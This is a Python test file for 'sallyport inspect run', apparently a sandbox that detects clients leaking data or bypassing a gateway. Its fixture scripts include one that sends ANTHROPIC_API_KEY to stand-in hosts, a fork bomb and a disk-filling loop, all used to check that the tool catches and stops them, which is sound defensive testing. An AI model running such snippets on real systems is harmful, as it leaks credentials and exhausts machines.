"""`sallyport inspect run`: made-up clients that are really run, hostile ones, what the report says, and that nothing is left."""

import json
import os
import random
import signal
import subprocess
import tempfile
import time
import unittest
from pathlib import Path

import leaky
from programs import PROGRAM

SECONDS_MAX = 300
PYTHON = "/usr/bin/python3"
LEAKY = str(Path(leaky.__file__).resolve())


def without_boundary():
    probe = subprocess.run([PROGRAM, "inspect", "run", "--command", "true", "--variables", "no such variable", "--json"], capture_output=True, text=True,
                           timeout=SECONDS_MAX, env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"})
    return probe.stderr if "boundary" in probe.stderr else ""


class InspectRun(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        if reason := without_boundary():
            raise unittest.SkipTest(reason)

    def setUp(self):
        self.folder = Path(self.enterContext(tempfile.TemporaryDirectory(dir="/var/tmp")))

    def command(self, *arguments):
        return [PROGRAM, "inspect", "run", *arguments]

    def environment(self):
        return {"PATH": "/usr/bin:/bin", "HOME": str(self.folder)}

    def run_program(self, *arguments, code=0):
        done = subprocess.run(self.command(*arguments), capture_output=True, text=True, timeout=SECONDS_MAX, cwd=self.folder, env=self.environment())
        self.assertIn(done.returncode, (code,) if isinstance(code, int) else code, done.stdout[-3000:] + done.stderr)
        return done.stdout if done.returncode < 2 else done.stderr

    def inspect(self, script, *arguments, code=(0, 1)):
        return json.loads(self.run_program("--command", f"{PYTHON} -B {script}", "--json", *arguments, code=code))["runs"]

    def script(self, text):
        (self.folder / "client.py").write_text(text)
        return str(self.folder / "client.py")

    def test_channels_of_real_programs_are_found_with_their_state_and_nothing_else(self):
        seed = int(os.environ.get("SALLYPORT_SEED") or random.SystemRandom().randint(1, 10**9))
        chance = random.Random(seed)
        channels = chance.sample(leaky.CHANNELS, int(os.environ.get("SALLYPORT_CHANNELS") or 4))
        for channel in [*channels, "none"]:
            when = chance.choice(("zone", "host"))
            with self.subTest(channel=channel, when=when, seed=seed):
                words = ["--variables", "time zone (TZ)", "--variables", "host name", "--no-pairs"] if when == "zone" else \
                    ["--variables", "base URL", "--variables", "keyboard", "--no-pairs"]
                runs = self.inspect(f"{LEAKY} {channel} {when} 1", *words)
                found = {(state["variable"], state["state"]) for one in runs["channels"] for state in one["states"]}
                wanted = {("time zone (TZ)", "Asia/Shanghai")} if when == "zone" else {("host of the base URL", host) for host in (
                    "https://gateway.acme.cn", "https://gateway.deepseek.cn")}
                self.assertEqual(found, set() if channel == "none" else wanted, runs["channels"])
                self.assertEqual(runs["problems"], [])

    def test_a_channel_that_needs_two_things_at_once_is_found_by_pairs(self):
        runs = self.inspect(f"{LEAKY} apostrophe pair 1", "--variables", "×")
        self.assertTrue(all(one["only_in_pairs"] for one in runs["channels"]), runs["channels"])
        state = next(state for one in runs["channels"] for state in one["states"])
        self.assertIn("Asia/Shanghai × https://gateway.acme.cn", [state["state"] for one in runs["channels"] for state in one["states"]])
        self.assertEqual([change["here"] for change in state["changes"]], ["\u2019"])
        self.assertEqual(state["changes"][0]["here_hex"], "e28099")

    def test_the_report_says_what_is_plainly_told_who_was_contacted_and_what_was_not_covered(self):
        page = self.folder / "page.html"
        runs = self.inspect(f"{LEAKY} none zone 1", "--variables", "time zone (TZ)", "--no-pairs", "--html", str(page), code=0)
        self.assertRegex(runs["verdict"], r"Nothing was found in \d+ runs over 1 variable\.")
        echo = next(one for one in runs["plain_echoes"] if one["state"] == "Asia/Urumqi")
        self.assertEqual((echo["host"], echo["spelled"]), ("gateway", "Asia/Urumqi"))
        hosts = {one["host"]: one for one in runs["receipts"]}
        self.assertIn("telemetry.made-up.example", hosts)
        self.assertEqual(hosts["gateway"]["key_leaked_in"], [])
        self.assertTrue(any("signed in" in one for one in runs["not_covered"]))
        text = page.read_text()
        self.assertIn("Plainly told", text)
        self.assertNotIn("clean", text)
        for asset in ("<script", "<img", "<link", " src=", "@import", "url("):
            self.assertNotIn(asset, text)

    def test_a_key_that_goes_elsewhere_and_a_model_asked_past_the_gateway_are_told(self):
        script = self.script("import os, urllib.request\n"
                             "for url in ('https://other.example/x', 'https://198.51.100.7/v1/messages'):\n"
                             "    r = urllib.request.Request(url, data=b'{}', headers={'X-Key': os.environ['ANTHROPIC_API_KEY'],\n"
                             "                               'Content-Type': 'application/json', 'X-Gateway': os.environ['SALLYPORT_INSPECT_BASE']})\n"
                             "    try: urllib.request.urlopen(r, timeout=9)\n"
                             "    except OSError: pass\n")
        runs = self.inspect(script, "--variables", "keyboard", "--no-pairs", code=1)
        hosts = {one["host"]: one for one in runs["receipts"]}
        self.assertEqual(hosts["other.example"]["key_leaked_in"], ["POST /x, header x-key"])
        self.assertEqual(hosts["other.example"]["gateway_named_in"], ["POST /x, header x-gateway"])
        self.assertEqual(hosts["198.51.100.7"]["model_calls_past_the_gateway"], ["POST /v1/messages"])
        self.assertIn("key went to another host", runs["verdict"])

    def test_what_hangs_forks_or_fills_the_disk_is_ended_and_told(self):
        hangs = self.inspect(self.script("import time\ntime.sleep(999)\n"), "--seconds", "1", "--variables", "keyboard", "--no-pairs", code=0)
        self.assertTrue(any("ran longer than 1 s" in one for one in hangs["problems"]), hangs["problems"])
        forks = self.inspect(self.script("import os, time\nwhile True:\n    try:\n        if os.fork() == 0: time.sleep(30)\n    except OSError: time.sleep(1)\n"),
                             "--seconds", "20", "--variables", "no such", code=0)
        self.assertTrue(any("processes" in one for one in forks["problems"]), forks["problems"])
        fills = self.inspect(self.script("with open('big', 'wb') as file:\n    try:\n        while True: file.write(b'x' * 1000000)\n"
                                         "    except OSError as full: print('it is full', full.errno, flush=True)\n"),
                             "--seconds", "20", "--variables", "no such", code=0)
        self.assertIn("28", " ".join(fills["problems"]))

    def test_after_a_kill_of_the_inspector_nothing_is_left(self):
        word = f"left-{random.SystemRandom().randint(1, 10**12)}"
        script = self.script(f"import time\nname = '{word}'\ntime.sleep(200)\n")
        started = subprocess.Popen(self.command("--command", f"{PYTHON} -B {script} {word}", "--seconds", "100"), env=self.environment(),
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.addCleanup(started.wait)
        self.addCleanup(started.kill)
        self.assertTrue(self.until(lambda: len(self.processes_with(word)) >= 3))
        started.send_signal(signal.SIGKILL)
        started.wait(SECONDS_MAX)
        self.assertTrue(self.until(lambda: not self.processes_with(word)), self.processes_with(word))
        self.assertNotIn(word, Path("/proc/mounts").read_text())

    def test_bad_input_is_told_in_a_sentence(self):
        (self.folder / "empty").mkdir()
        (self.folder / "broken.tgz").write_bytes(b"\x1f\x8bjunk")
        for arguments, words, code in ((("empty",), "holds no", 4), (("broken.tgz",), "no package that can be opened", 4), ((), "name a client", 2),
                                       (("--command", "no-such-program"), "not found in PATH", 4), (("--command", "true", "--client", "x"), "is not known", 4)):
            self.assertIn(words, self.run_program(*arguments, code=code))
        silent = self.inspect(self.script("print('nothing to do')\n"), "--variables", "no such", code=0)
        self.assertIn("sent nothing to the gateway", " ".join(silent["problems"]))
        self.assertIn("this says little", silent["verdict"])

    def processes_with(self, word):
        found = []
        for one in Path("/proc").iterdir():
            try:
                if one.name.isdigit() and word.encode() in (one / "cmdline").read_bytes():
                    found.append(one.name)
            except OSError:
                pass
        return found

    def until(self, holds):
        end = time.monotonic() + 20
        while time.monotonic() < end:
            if holds():
                return True
            time.sleep(0.05)
        return holds()


if __name__ == "__main__":
    unittest.main()
